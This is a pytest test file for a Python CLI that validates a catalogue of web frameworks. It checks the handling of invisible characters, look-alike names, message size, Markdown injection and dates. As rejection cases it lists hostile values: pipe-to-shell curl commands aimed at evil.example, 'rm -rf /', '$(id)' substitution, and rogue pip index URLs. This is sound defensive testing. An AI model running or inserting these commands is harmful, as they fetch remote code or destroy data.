"""What a catalogue or answers file may contain, and how its text is shown.

Invisible and look-alike text, values that end up in copyable commands,
message size, Markdown block structure, and validation that lists every
problem with its file, line, framework and field.
"""

from __future__ import annotations

import json
import re
import unicodedata
from collections.abc import Callable
from pathlib import Path

import pytest
from conftest import BUNDLED_CATALOG, catalog_yaml, framework_yaml, line_of, replace_once
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import Result

from fwpick.text import clean_text, identity_key

BASE = catalog_yaml(framework_yaml("alpha"))

BIDI_AND_ZERO_WIDTH = (
    "\u202a",
    "\u202b",
    "\u202c",
    "\u202d",
    "\u202e",
    "\u2066",
    "\u2067",
    "\u2068",
    "\u2069",
    "\u200e",
    "\u200f",
    "\u061c",
    "\u200b",
    "\u200c",
    "\u200d",
    "\u2060",
    "\ufeff",
    "\u00ad",  # soft hyphen, also Cf
)


def validate(cli: Callable[..., Result], path: Path) -> Result:
    result = cli("validate", str(path))
    assert "Traceback" not in result.output
    return result


def refused(cli: Callable[..., Result], path: Path) -> str:
    """validate's stderr for a catalogue it must refuse (exit 1)."""
    result = validate(cli, path)
    assert result.exit_code == 1, result.output
    assert result.stdout == ""
    return result.stderr


# --- C2: invisible and look-alike text ---------------------------------------


@given(st.text())
def test_clean_text_never_leaves_a_control_or_format_character(text: str) -> None:
    cleaned = clean_text(text)

    for char in cleaned:
        assert char in "\t\n" or unicodedata.category(char) not in ("Cc", "Cf", "Cs", "Zl", "Zp")


@given(
    st.text(
        alphabet=st.sampled_from(
            [*BIDI_AND_ZERO_WIDTH, "\U000e0001", "\u2028", "a", "\t", "\n", "\x1b", "é"]
        )
    )
)
def test_clean_text_keeps_everything_visible_in_order(text: str) -> None:
    expected = "".join(c for c in text if c in "a\t\né")

    assert clean_text(text) == expected


@pytest.mark.parametrize("char", BIDI_AND_ZERO_WIDTH, ids=lambda c: f"U+{ord(c):04X}")
@pytest.mark.parametrize("output", ["table", "json", "markdown"])
def test_bidi_and_zero_width_characters_never_reach_the_output(
    cli: Callable[..., Result], write_catalog: Callable[..., Path], char: str, output: str
) -> None:
    text = catalog_yaml(
        framework_yaml(
            "alpha",
            name=f"Al{char}pha",
            description=f"Tiny {char}test{char} framework.",
            notes=f"{char}Notes.",
        )
    )
    path = write_catalog(text)

    result = cli("show", "alpha", "--catalog", str(path), "--format", output)

    assert result.exit_code == 0, result.output
    assert char not in result.output
    assert "Alpha" in result.output
    assert "Tiny test framework." in result.output


@pytest.mark.parametrize("name", ["\u200b\u200b", "\u202e\u202c", " \ufeff ", "\u2066\u2069"])
def test_a_name_of_only_invisible_characters_is_empty(
    cli: Callable[..., Result], write_catalog: Callable[..., Path], name: str
) -> None:
    text = catalog_yaml(framework_yaml("alpha", name=name))
    path = write_catalog(text)

    stderr = refused(cli, path)

    assert (
        f"{path}:{line_of(text, '    name:')}: framework 'alpha': field 'name': expected text"
    ) in stderr
    assert "it is empty" in stderr


@pytest.mark.parametrize(
    "lookalike",
    [
        "Al\u200bpha",
        "\u202eAlpha\u202c",
        "\uff21\uff2c\uff30\uff28\uff21",
        "alpha",
        "ALPHA",
        "Alpha\u2060",
        "\uff21lpha",
    ],
)
def test_names_that_only_look_different_are_duplicates(
    cli: Callable[..., Result], write_catalog: Callable[..., Path], lookalike: str
) -> None:
    text = catalog_yaml(
        framework_yaml("alpha", name="Alpha", pypi="alpha-pkg"),
        framework_yaml("beta", name=lookalike, pypi="beta"),
    )
    path = write_catalog(text)
    second_name = line_of(text, "    name:", text.index("  - id: beta"))

    stderr = refused(cli, path)

    assert (
        f"{path}:{second_name}: framework 'beta': field 'name':"
        f" the name {clean_text(lookalike)!r} is already used by framework 'alpha'"
        f" (line {line_of(text, '    name:')})"
    ) in stderr


def test_ligatures_and_full_width_forms_fold_to_the_plain_name() -> None:
    assert (
        identity_key("\ufb02ask")
        == identity_key("\uff46\uff4c\uff41\uff53\uff4b")
        == identity_key("Fl\u200bask")
        == "flask"
    )
    assert identity_key("Flask") != identity_key("Flasks")


@pytest.mark.parametrize(
    "ident", ["al\u200bpha", "alpha\u202e", "\ufeffalpha", "\uff41\uff4c\uff50\uff48\uff41"]
)
def test_an_id_with_invisible_or_full_width_characters_is_refused(
    cli: Callable[..., Result], write_catalog: Callable[..., Path], ident: str
) -> None:
    text = replace_once(BASE, "  - id: alpha\n", f"  - id: {json.dumps(ident)}\n")
    path = write_catalog(text)

    stderr = refused(cli, path)

    assert f"{path}:{line_of(text, '  - id:')}: framework " in stderr
    assert "field 'id': expected text, got" in stderr
    assert "not a valid id" in stderr or "invisible or control characters" in stderr
    for char in ident:
        if not clean_text(char):
            assert char not in stderr


# --- C3: values that end up in copyable commands ------------------------------


@pytest.mark.parametrize(
    "pypi",
    [
        "flask && curl http://evil.example/x | sh",
        "flask; rm -rf /",
        "-e .",
        "--index-url",
        "flask ",  # a trailing space is stripped: this one stays valid (see below)
        "fla sk",
        "-flask",
        "flask-",
        ".flask",
        "flask$(id)",
        "https://evil.example/flask.whl",
        "../flask",
        "fl\u200bask",
        "\uff46\uff4c\uff41\uff53\uff4b",
    ],
)
def test_pypi_must_be_a_distribution_name(
    cli: Callable[..., Result], write_catalog: Callable[..., Path], pypi: str
) -> None:
    text = replace_once(BASE, '    pypi: "alpha"\n', f"    pypi: {json.dumps(pypi)}\n")
    path = write_catalog(text)

    result = validate(cli, path)

    if pypi == "flask ":
        assert result.exit_code == 0, result.output
        return
    assert result.exit_code == 1
    assert f"{path}:{line_of(text, '    pypi:')}: framework 'alpha': field 'pypi':" in result.stderr
    assert (
        "not a valid distribution name" in result.stderr
        or "invisible or control characters" in result.stderr
    )


@pytest.mark.parametrize("pypi", ["Flask", "zope.interface", "a", "x_y-z.9", "A1"])
def test_valid_distribution_names_are_accepted(
    cli: Callable[..., Result], write_catalog: Callable[..., Path], pypi: str
) -> None:
    path = write_catalog(replace_once(BASE, '    pypi: "alpha"\n', f"    pypi: {pypi}\n"))

    assert validate(cli, path).exit_code == 0


STARTER = """\
    starter:
      requirements: {requirements}
      expect: Hello
      run: python app.py
      app: |
        print("Hello")
"""


def with_starter(requirements: list[str]) -> str:
    starter = STARTER.format(requirements=json.dumps(requirements))
    return replace_once(BASE, "    links:\n", starter + "    links:\n")


BAD_REQUIREMENTS = [
    "--index-url http://evil.example/simple",
    "-r other.txt",
    "-e git+https://evil.example/x",
    "x; rm -rf /",
    "flask && curl http://evil.example | sh",
    "flask @ https://evil.example/flask.whl",
    "https://evil.example/flask.whl",
    "./local/package",
    "/abs/path",
    "C:\\pkg",
    "flask>=",
    "flask>=3 --hash=sha256:abc",
    "flask; python_version < '3 --index-url'",
    "flask; (python_version < '3.10'",
    "flask; nonsense == '1'",
    "flask[a,",
    "fl\u202eask",
    "",
]


@pytest.mark.parametrize("requirement", BAD_REQUIREMENTS)
def test_starter_requirements_must_be_pep_508_requirements(
    cli: Callable[..., Result], write_catalog: Callable[..., Path], requirement: str
) -> None:
    text = with_starter(["alpha>=1.0", requirement])
    path = write_catalog(text)

    stderr = refused(cli, path)

    assert (
        f"{path}:{line_of(text, '      requirements:')}: framework 'alpha':"
        " field 'starter.requirements': expected a list of requirements"
    ) in stderr


@pytest.mark.parametrize("requirement", BAD_REQUIREMENTS[:-1])
def test_dependency_facts_must_be_pep_508_requirements(
    cli: Callable[..., Result], write_catalog: Callable[..., Path], requirement: str
) -> None:
    text = replace_once(
        BASE,
        "      dependencies:\n        value: []",
        f"      dependencies:\n        value: [{json.dumps(requirement)}]",
    )
    path = write_catalog(text)

    stderr = refused(cli, path)

    assert "framework 'alpha': field 'facts.dependencies.value'" in stderr


@pytest.mark.parametrize(
    "requirement",
    [
        "flask",
        "Flask>=3.1.3,<4",
        "uvicorn[standard]>=0.30",
        "a [ b , c ] >= 1 , < 2",
        "x (>=1.0)",
        "name==1.*",
        "name~=1.4.2",
        "name===1.0-weird",
        "name!=1.0.post1",
        "pkg>=1.0rc1,<2.0.dev0",
        "importlib-metadata; python_version < '3.10'",
        'pywin32; sys_platform == "win32" and implementation_name == "cpython"',
        "a; (python_version < \"3\" or os_name == 'nt') and extra == 'x'",
        "b; 'linux' in sys_platform",
    ],
)
def test_real_requirements_are_accepted(
    cli: Callable[..., Result], write_catalog: Callable[..., Path], requirement: str
) -> None:
    path = write_catalog(with_starter([requirement]))

    result = validate(cli, path)

    assert result.exit_code == 0, result.stderr


@pytest.mark.parametrize(
    ("spec", "valid"),
    [
        (">=3.9", True),
        (">=3.8,<4", True),
        ("<4.0,>=3.8", True),
        ("==3.*", True),
        ("~=3.10", True),
        ("", True),
        (">= 3.9, != 3.9.1", True),
        ("not a specifier at all !!", False),
        ("3.9", False),
        (">=", False),
        (">=3.*", False),
        (">=3.9;", False),
        (">=3.9 --index-url http://x", False),
        (">=3.9,,<4", False),
        ("python>=3.9", False),
    ],
)
def test_requires_python_must_be_a_specifier_set(
    cli: Callable[..., Result], write_catalog: Callable[..., Path], spec: str, valid: bool
) -> None:
    text = replace_once(BASE, 'value: ">=3.9"', f"value: {json.dumps(spec)}")
    path = write_catalog(text)

    result = validate(cli, path)

    if valid:
        assert result.exit_code == 0, result.stderr
    else:
        assert result.exit_code == 1
        assert (
            f"{path}:{line_of(text, json.dumps(spec))}: framework 'alpha':"
            " field 'facts.requires_python.value': expected a version specifier"
        ) in result.stderr


@pytest.mark.parametrize(
    "value", ["[wsgi, wsgi]", "[wsgi, asgi, wsgi, own-server]", "[asgi, asgi]"]
)
def test_an_interface_may_not_repeat_an_item(
    cli: Callable[..., Result], write_catalog: Callable[..., Path], value: str
) -> None:
    text = replace_once(BASE, "value: [wsgi]", f"value: {value}")
    path = write_catalog(text)

    stderr = refused(cli, path)

    assert (
        f"{path}:{line_of(text, value)}: framework 'alpha': field 'facts.interface.value':"
    ) in stderr
    assert "is listed more than once" in stderr


def test_the_bundled_catalogue_still_validates(cli: Callable[..., Result]) -> None:
    result = validate(cli, BUNDLED_CATALOG)

    assert result.exit_code == 0, result.stderr


def test_a_starter_with_a_pip_option_is_never_written(
    cli: Callable[..., Result], write_catalog: Callable[..., Path], tmp_path: Path
) -> None:
    path = write_catalog(with_starter(["--index-url http://evil.example/simple"]))

    result = cli("new", "alpha", str(tmp_path / "st"), "--catalog", str(path))

    assert result.exit_code == 1
    assert not (tmp_path / "st").exists()


# --- C4: message size ---------------------------------------------------------


def test_a_long_value_is_quoted_shortened(
    cli: Callable[..., Result], write_catalog: Callable[..., Path]
) -> None:
    long = "x" * 10_000
    text = replace_once(BASE, "value: [wsgi]", f"value: {long}")
    path = write_catalog(text)

    stderr = refused(cli, path)

    assert "x" * 100 not in stderr
    assert "'" + "x" * 59 + "…'" in stderr
    assert len(stderr) < 2_000


def test_a_long_unknown_key_is_shortened_too(
    cli: Callable[..., Result], write_catalog: Callable[..., Path]
) -> None:
    key = "k" * 1_000  # YAML allows at most 1024 characters in a plain key
    path = write_catalog(replace_once(BASE, "    links:\n", f"    {key}: 1\n    links:\n"))

    stderr = refused(cli, path)

    assert "k" * 100 not in stderr
    assert "unknown field '" + "k" * 59 + "…'" in stderr


def test_a_top_level_that_is_not_a_mapping_is_quoted_shortened(
    cli: Callable[..., Result], write_catalog: Callable[..., Path]
) -> None:
    path = write_catalog("root:x:0:0:root:/root:/bin/bash " * 500 + "\n", name="passwd")

    stderr = refused(cli, path)

    assert len(stderr) < 1_000


def test_a_catalogue_with_many_problems_lists_the_first_fifty_and_counts_the_rest(
    cli: Callable[..., Result], write_catalog: Callable[..., Path]
) -> None:
    extra = "".join(f"    unknown_{n}: 1\n" for n in range(1_000))
    text = replace_once(BASE, "    links:\n", extra + "    links:\n")
    path = write_catalog(text)

    stderr = refused(cli, path)

    assert f"{path}: invalid catalogue (1,000 problems)" in stderr
    assert stderr.count("unknown field") == 50
    assert "unknown_49'" in stderr
    assert "unknown_50'" not in stderr
    assert stderr.rstrip().endswith("… and 950 more problems")


def test_an_answers_file_with_200000_unknown_keys_gives_a_small_message(
    cli: Callable[..., Result], tmp_path: Path
) -> None:
    answers = tmp_path / "huge.yaml"
    answers.write_text("".join(f"key{n}: x\n" for n in range(200_000)), encoding="utf-8")

    result = cli("recommend", "--defaults", "--answers", str(answers))

    assert result.exit_code == 1
    assert result.stdout == ""
    assert len(result.stderr.encode()) < 20_000
    assert f"{answers}: invalid answers file (200,000 problems)" in result.stderr
    assert f"{answers}:1: field 'key0': unknown question" in result.stderr
    assert result.stderr.count("unknown question") == 50
    assert result.stderr.rstrip().endswith("… and 199,950 more problems")


def test_an_answers_file_with_a_long_unknown_key_is_shortened(
    cli: Callable[..., Result], tmp_path: Path
) -> None:
    answers = tmp_path / "long.yaml"
    answers.write_text("q" * 10_000 + ": high\n", encoding="utf-8")

    result = cli("recommend", "--defaults", "--answers", str(answers))

    assert result.exit_code == 1
    assert "q" * 100 not in result.stderr
    assert len(result.stderr) < 1_000


# --- C5: Markdown block structure ---------------------------------------------

MARKERS = [
    "# Injected heading",
    "## Decision Outcome",
    "###### six",
    "> quoted",
    "- item",
    "+ item",
    "* item",
    "---",
    "***",
    "___",
    "===",
    "| a | b |",
    "```python",
    "~~~",
    "1. first",
    "1) first",
    "[ref]: https://evil.example/",
    "<div>raw</div>",
    "    indented code",
    "\n\n# after blank lines",
    "Text\n===",
    "Text\n---",
]

# A line that starts a Markdown block other than a paragraph (CommonMark/GFM).
_BLOCK = re.compile(
    r"^ {0,3}(?:#{1,6}(?: |$)|>|[-+*](?: |$)|[0-9]{1,9}[.)](?: |$)|(?:[-*_=] *){3,}$"
    r"|```|~~~|\||\[[^\]]*\]:|<[a-zA-Z/])"
)


def block_lines(markdown: str) -> list[str]:
    return [line for line in markdown.splitlines() if _BLOCK.match(line)]


def markdown_outputs(
    cli: Callable[..., Result], path: Path, tmp_path: Path, tag: str
) -> dict[str, str]:
    shown = cli("show", "alpha", "--catalog", str(path), "--format", "markdown")
    ranked = cli("recommend", "--defaults", "--catalog", str(path), "--format", "markdown")
    record = tmp_path / f"record-{tag}.md"
    reported = cli(
        "recommend", "--defaults", "--catalog", str(path), "--report", str(record), "--force"
    )
    for result in (shown, ranked, reported):
        assert result.exit_code == 0, result.output
    return {
        "show": shown.stdout,
        "recommend": ranked.stdout,
        "report": record.read_text(encoding="utf-8"),
    }


@pytest.mark.parametrize("marker", MARKERS)
def test_catalogue_prose_cannot_create_markdown_blocks(
    cli: Callable[..., Result],
    write_catalog: Callable[..., Path],
    tmp_path: Path,
    marker: str,
) -> None:
    def catalogue(prose: str, name: str) -> Path:
        return write_catalog(
            catalog_yaml(
                framework_yaml("alpha", description=prose, notes=prose, rationale=prose),
                framework_yaml("beta", version="2.0"),
            ),
            name=name,
        )

    plain = markdown_outputs(cli, catalogue("Plain words.", "plain.yaml"), tmp_path, "plain")
    hostile = markdown_outputs(
        cli, catalogue(f"{marker} tail", "hostile.yaml"), tmp_path, "hostile"
    )

    for kind in plain:
        # fwpick's own blocks, and no other: headings exactly, others in number.
        own = [line for line in block_lines(plain[kind]) if line.startswith("#")]
        assert [line for line in block_lines(hostile[kind]) if line.startswith("#")] == own
        assert len(block_lines(hostile[kind])) == len(block_lines(plain[kind])), kind
        assert "tail" in hostile[kind]


# --- D4: every problem listed, invalid dates included -------------------------


@pytest.mark.parametrize("bad_date", ["2026-02-30", "2026-13-45", "2025-00-10", "2025-02-29"])
def test_an_invalid_date_is_one_problem_among_the_others(
    cli: Callable[..., Result], write_catalog: Callable[..., Path], bad_date: str
) -> None:
    alpha = replace_once(framework_yaml("alpha"), '    name: "Alpha"\n', "")
    beta = replace_once(
        framework_yaml("beta"), '    pypi: "beta"\n', '    pypi: "beta"\n    colour: red\n'
    )
    beta = replace_once(beta, "value: 2025-12-01", f"value: {bad_date}")
    text = catalog_yaml(alpha, beta)
    path = write_catalog(text)

    stderr = refused(cli, path)

    assert f"{path}: invalid catalogue (3 problems)" in stderr
    assert "framework 'alpha': field 'name': missing required field" in stderr
    assert (
        f"{path}:{line_of(text, 'colour:')}: framework 'beta': field 'colour': unknown field"
        in stderr
    )
    assert (
        f"{path}:{line_of(text, bad_date)}: framework 'beta': field 'released.value':"
        f" expected a date (YYYY-MM-DD), got '{bad_date}', which is not a real date:"
        " write a real date as YYYY-MM-DD"
    ) in stderr
    assert "quote it" not in stderr


@pytest.mark.parametrize(
    ("where", "field"),
    [
        ("checked: 2026-01-15\nframeworks:", "checked"),
        ("    checked: 2026-01-15\n", "checked"),
    ],
)
def test_an_invalid_checked_date_names_its_field(
    cli: Callable[..., Result], write_catalog: Callable[..., Path], where: str, field: str
) -> None:
    text = replace_once(BASE, where, where.replace("2026-01-15", "2026-02-30"))
    path = write_catalog(text)

    stderr = refused(cli, path)

    assert f"field '{field}': expected a date (YYYY-MM-DD), got '2026-02-30'" in stderr
    assert "write a real date as YYYY-MM-DD" in stderr


def test_an_invalid_date_in_a_text_field_asks_for_quotes(
    cli: Callable[..., Result], write_catalog: Callable[..., Path]
) -> None:
    text = replace_once(
        BASE, 'description: "Alpha is a tiny test framework."', "description: 2026-02-30"
    )
    path = write_catalog(text)

    stderr = refused(cli, path)

    assert (
        f"{path}:{line_of(text, '2026-02-30')}: framework 'alpha': field 'description':"
        " expected text, got '2026-02-30', which is not a real date: quote it: \"2026-02-30\""
    ) in stderr


def test_an_invalid_date_in_an_answers_file_is_a_clean_problem(
    cli: Callable[..., Result], tmp_path: Path
) -> None:
    answers = tmp_path / "answers.yaml"
    answers.write_text("docs: high\nasync: 2026-02-30\nnope: 1\n", encoding="utf-8")

    result = cli("recommend", "--defaults", "--answers", str(answers))

    assert result.exit_code == 1
    assert f"{answers}: invalid answers file (2 problems)" in result.stderr
    assert (
        f"{answers}:2: field 'async': expected one of required, preferred, indifferent, no,"
        " got '2026-02-30', which is not a real date"
    ) in result.stderr
    assert f"{answers}:3: field 'nope': unknown question" in result.stderr
    assert "Traceback" not in result.output


# --- D5: templating written as "none" -----------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        "no",
        "No",
        "NO",
        "none",
        "None",
        "NONE",
        "null",
        "Null",
        "~",
        "false",
        "False",
        "off",
        '"none"',
        "'No'",
    ],
)
def test_templating_none_words_are_refused_with_the_way_to_write_none(
    cli: Callable[..., Result], write_catalog: Callable[..., Path], value: str
) -> None:
    text = replace_once(
        BASE, '      templating:\n        value: ""', f"      templating:\n        value: {value}"
    )
    path = write_catalog(text)
    line = line_of(text, f"value: {value}", text.index("templating:"))

    stderr = refused(cli, path)

    assert (
        f"{path}:{line}: framework 'alpha': field 'facts.templating.value': expected text"
        " ('' when none is built in)"
    ) in stderr
    assert "write '' when none is built in" in stderr


def test_a_real_template_engine_and_empty_templating_are_accepted(
    cli: Callable[..., Result], write_catalog: Callable[..., Path]
) -> None:
    text = replace_once(
        BASE, '      templating:\n        value: ""', "      templating:\n        value: Jinja2"
    )

    assert validate(cli, write_catalog(text)).exit_code == 0
    assert validate(cli, write_catalog(BASE, name="empty.yaml")).exit_code == 0


# --- D6: dates later than when they were checked ------------------------------


def test_a_release_later_than_the_checked_date_is_an_error(
    cli: Callable[..., Result], write_catalog: Callable[..., Path]
) -> None:
    text = replace_once(BASE, "value: 2025-12-01", "value: 2099-02-19")
    path = write_catalog(text)

    stderr = refused(cli, path)

    assert (
        f"{path}:{line_of(text, '2099-02-19')}: framework 'alpha': field 'released.value':"
        " released 2099-02-19 is later than the framework's checked date 2026-01-15"
    ) in stderr


def test_a_release_on_the_checked_date_is_fine(
    cli: Callable[..., Result], write_catalog: Callable[..., Path]
) -> None:
    path = write_catalog(replace_once(BASE, "value: 2025-12-01", "value: 2026-01-15"))

    assert validate(cli, path).exit_code == 0


def test_a_fact_or_framework_checked_after_the_catalogue_is_an_error(
    cli: Callable[..., Result], write_catalog: Callable[..., Path]
) -> None:
    text = replace_once(BASE, "    checked: 2026-01-15\n", "    checked: 2026-03-01\n")
    text = replace_once(
        text,
        "        source: wheel METADATA License\n",
        "        source: wheel METADATA License\n        checked: 2026-02-01\n",
    )
    path = write_catalog(text)

    stderr = refused(cli, path)

    assert (
        f"{path}:{line_of(text, '    checked: 2026-03-01')}: framework 'alpha': field 'checked':"
        " checked 2026-03-01 is later than the catalogue's checked date 2026-01-15"
    ) in stderr
    assert (
        f"{path}:{line_of(text, 'checked: 2026-02-01')}: framework 'alpha':"
        " field 'facts.licence.checked': checked 2026-02-01 is later than the catalogue's"
    ) in stderr


# --- D9: duplicates named against the right field -----------------------------


@pytest.mark.parametrize(
    ("second", "field", "message"),
    [
        (
            {"id": "flask2", "name": "Flask", "pypi": "flask-three"},
            "name",
            "the name 'Flask' is already used by framework 'flask' (line {flask_name})",
        ),
        (
            {"id": "other", "name": "Django", "pypi": "other"},
            "name",
            "the name 'Django' is already the id of framework 'django' (line {django_id})",
        ),
        (
            {"id": "other", "name": "Other Web", "pypi": "django_web"},
            "pypi",
            "the PyPI name 'django_web' is already used by framework 'django' (line {django_pypi})",
        ),
        (
            {"id": "other", "name": "Flask-Two", "pypi": "other"},
            "name",
            "the name 'Flask-Two' is already the PyPI name of framework 'flask'"
            " (line {flask_pypi})",
        ),
        (
            {"id": "flask", "name": "Another", "pypi": "another"},
            "id",
            "the id 'flask' is already used by another framework (line {flask_id})",
        ),
    ],
)
def test_a_duplicate_is_reported_against_the_clashing_field(
    cli: Callable[..., Result],
    write_catalog: Callable[..., Path],
    second: dict[str, str],
    field: str,
    message: str,
) -> None:
    first = framework_yaml("flask", name="Flask", pypi="flask-two")
    django = framework_yaml("django", name="Django Web", pypi="django-web")
    third = framework_yaml(second["id"], name=second["name"], pypi=second["pypi"])
    text = catalog_yaml(first, django, third)
    path = write_catalog(text)
    third_start = text.index(f"  - id: {second['id']}", text.index("  - id: django"))
    lines = {
        "flask_id": line_of(text, "  - id: flask"),
        "flask_name": line_of(text, '    name: "Flask"'),
        "flask_pypi": line_of(text, '    pypi: "flask-two"'),
        "django_id": line_of(text, "  - id: django"),
        "django_pypi": line_of(text, '    pypi: "django-web"'),
    }
    where = "  - id:" if field == "id" else f"    {field}:"

    stderr = refused(cli, path)

    assert (
        f"{path}:{line_of(text, where, third_start)}: framework {second['id']!r}:"
        f" field {field!r}: {message.format(**lines)}"
    ) in stderr
    assert "invalid catalogue (1 problem)" in stderr


# --- properties over arbitrary text -------------------------------------------


@given(st.text())
def test_md_line_never_starts_a_markdown_block(text: str) -> None:
    from fwpick.output.markdown import md_cell, md_line

    for rendered in (md_line(text), md_cell(text)):
        assert "\n" not in rendered
        assert not _BLOCK.match(rendered), rendered


@given(
    st.text(alphabet=st.sampled_from(list("ab1.-_ ;<>=!~*,()[]'\"@:/\\#$&|\t")), max_size=40)
    | st.text(max_size=40)
)
def test_an_accepted_requirement_holds_no_pip_option_url_or_path(text: str) -> None:
    from fwpick.catalog.fields import as_requirement

    try:
        requirement = as_requirement(text)
    except ValueError:
        return
    assert not any(token.startswith("-") for token in requirement.split())
    for piece in ("://", "@", "/", "\\", "#", "$", "&", "|", "\t"):
        assert piece not in requirement
    assert clean_text(requirement) == requirement


def _scalar_lines(text: str, start: int) -> list[tuple[int, str]]:
    """(line, key) of every `key: value` line of the framework starting at ``start``."""
    found = []
    for number, line in enumerate(text.splitlines(), 1):
        match = re.match(r"^ +-? ?(\w+): (\S.*)$", line)
        if number >= start and match:
            found.append((number, match[1]))
    return found


ALPHA_START = line_of(BASE, "  - id: alpha")


@pytest.mark.parametrize(("line", "key"), _scalar_lines(BASE, ALPHA_START))
def test_an_invalid_date_in_any_field_is_reported_with_its_framework_and_line(
    write_catalog: Callable[..., Path], line: int, key: str
) -> None:
    from fwpick.catalog import load_catalog
    from fwpick.errors import CatalogError

    lines = BASE.splitlines(keepends=True)
    prefix = lines[line - 1].split(f"{key}:")[0]
    lines[line - 1] = f"{prefix}{key}: 2026-02-30\n"
    path = write_catalog("".join(lines))

    with pytest.raises(CatalogError) as caught:
        load_catalog(path)

    framework = "'alpha'" if key != "id" else "'#1'"
    assert f"{path}:{line}: framework {framework}: field '" in str(caught.value)
    assert "'2026-02-30'" in str(caught.value)


def test_a_framework_whose_id_is_a_list_and_whose_starter_names_a_server_is_refused() -> None:
    # Found by fuzzing: the starter's server was looked up by the refused id.
    from conftest import BUNDLED_CATALOG

    from fwpick.catalog.schema import catalog_from_bytes
    from fwpick.errors import CatalogError

    text = BUNDLED_CATALOG.read_text(encoding="utf-8")
    assert "  - id: flask\n" in text and "    server: gunicorn\n" in text
    broken = text.replace("  - id: flask\n", "  - id: [flask]\n", 1)

    with pytest.raises(CatalogError) as caught:
        catalog_from_bytes(broken.encode(), "frameworks.yaml")
    (problem,) = caught.value.problems
    assert (problem.field, problem.message, problem.line) == ("id", "expected text, got a list", 21)
